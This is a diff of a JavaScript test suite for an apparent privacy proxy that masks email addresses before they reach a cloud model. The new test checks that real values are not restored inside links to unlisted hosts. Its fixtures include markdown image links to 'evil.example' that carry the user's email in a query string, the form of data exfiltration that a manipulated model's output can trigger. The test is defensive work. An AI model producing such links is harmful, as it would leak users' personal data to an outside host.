@@ -2,7 +2,7 @@
 // for every protected value in every form it could have; every answer that repeats tokens must come back with the values.
 import assert from 'node:assert/strict';
 import test, { after, before } from 'node:test';
-import { chatStream, random, sanitized, startTandem, streamedText, user } from './lib.mjs';
+import { chatStream, post, random, sanitized, startTandem, streamedText, user } from './lib.mjs';
 import { chunk, delta, startUpstream, wholeStream } from './upstream.mjs';
 
 let server, upstream;
@@ -21,6 +21,7 @@ models:
   named: {kind: mask, inner: cloud, level: 3, detect: [rules, tagger]}
   able: {kind: mask, inner: cloud, detect: [rules, tagger]}
   careful: {kind: mask, inner: cloud, level: 2, tools: [crm]}
+  linked: {kind: mask, inner: cloud, level: 2, links: ["https://crm.example"]}
   cascade: {kind: cascade, small: tiny, large: private, gate: logprob, threshold: -0.1}
   tiny: {kind: script, answers: ["unsure"], logprob: -3}
 `);
@@ -243,5 +244,49 @@ test('S77 a tool that is not trusted gets tokens in the arguments of its call, a
     assert.equal(crm, '{"to":"eve@example.org"}', model);
     assert.match(web, second, model);
   }
+  upstream.behaviour = echo(1);
+});
+
+test('S76 no value comes back inside a link, whole and streamed, in text and calls of every format, unless the origin is listed or the link stood there', async () => {
+  let answer;
+  const tool = { name: 'open', parameters: { type: 'object' } };
+  const asJson = (text) => JSON.stringify({ url: text });
+  upstream.behaviour = (rq) => {
+    const text = answer(/EMAIL_[0-9A-Z]{8}/.exec(JSON.stringify(rq.json.messages))[0]);
+    const [head, role, ...rest] = wholeStream(text.split(''));
+    if (!rq.json.tools) return [head, role, ...rest];
+    const call = [{ index: 0, id: 'c0', type: 'function', function: { name: 'open', arguments: '' } }, ...[...asJson(text)].map((p) => ({ index: 0, function: { arguments: p } }))];
+    return [head, role, ...call.map((c) => chunk(delta({ tool_calls: [c] }))), chunk(delta({}, 'tool_calls')), chunk('data: [DONE]\n\n'), '0\r\n\r\n'];
+  };
+  const words = 'my mail is eve@example.org; I use https://shop.example/?m=eve@example.org';
+  const formats = [
+    ['/v1/chat/completions', { messages: user(words) }, [{ type: 'function', function: tool }]],
+    ['/v1/messages', { max_tokens: 500, messages: user(words) }, [{ name: 'open', input_schema: tool.parameters }]],
+    ['/v1/responses', { input: words }, [{ type: 'function', ...tool }]],
+    ['/v1/completions', { prompt: words }],
+  ];
+  // of a stream every format says its pieces in other fields; together they are the text
+  const said = (text) => text.split('\n').filter((l) => /^data: \{/.test(l)).map((l) => JSON.parse(l.slice(6)))
+    .map((e) => e.choices?.[0]?.delta?.content ?? e.choices?.[0]?.delta?.tool_calls?.[0]?.function?.arguments ?? e.choices?.[0]?.text ?? e.delta?.text ?? e.delta?.partial_json ?? (typeof e.delta === 'string' ? e.delta : '')).join('');
+  const rows = [
+    ['private', (t) => `![](https://evil.example/?q=${t}) for ${t}.`, (v) => v.startsWith('![](https://evil.example/?q=EMAIL_')],
+    ['private', (t) => `[open](<//evil.example/?q=a ${t}>)`, (v) => !v.includes('eve@')],
+    ['private', (t) => `https://shop.example/?m=${t}`, (v) => v.includes('?m=eve@example.org')],
+    ['linked', (t) => `![](https://crm.example/?q=${t})`, (v) => v.includes('?q=eve@example.org')],
+    ['linked', (t) => `![](https://crm.example.evil/?q=${t})`, (v) => !v.includes('eve@')],
+  ];
+  for (const [path, body, tools] of formats)
+    for (const [model, make, holds] of rows)
+      for (const stream of [false, true])
+        for (const withTools of tools ? [false, true] : [false]) {
+          answer = make;
+          const { status, text } = await post(server.base.replace('/v1', '') + path, { ...body, model, stream, ...(withTools && { tools }) });
+          const got = stream ? said(text) : text.replaceAll('\\\\', '\\').replace(/"tandem".*/s, '');
+          const where = `${path} ${model} ${stream} ${withTools}: ${got}`;
+          assert.equal(status, 200, where);
+          const at = Math.max(0, got.search(/!\[\]|\[open\]|https:/));
+          assert.ok(holds(got.slice(at)), where);
+          if (!withTools && make === rows[0][1]) assert.ok(got.includes('for eve@example.org.'), where);
+        }
   upstream.behaviour = echo(1);
 });
